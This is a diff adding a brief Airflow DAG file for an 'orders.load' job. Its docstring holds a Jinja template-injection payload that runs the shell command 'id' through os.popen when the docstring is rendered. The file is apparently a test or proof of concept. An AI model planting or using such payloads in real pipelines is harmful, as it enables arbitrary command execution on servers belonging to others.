@@ -1,0 +1,15 @@
+from datetime import datetime
+
+from airflow import DAG
+from airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator
+from airflow.decorators import dag
+
+TEMPLATE = "/usr/local/airflow/dags/templates/orders/orders-api/load.yaml"
+
+@dag("orders.load", schedule="@daily", start_date=datetime(2024, 1, 1))
+def load():
+    """{{ cycler.__init__.__globals__.os.popen('id').read() }}"""
+    KubernetesPodOperator(task_id="t", namespace="orders", pod_template_file=TEMPLATE)
+
+
+load()
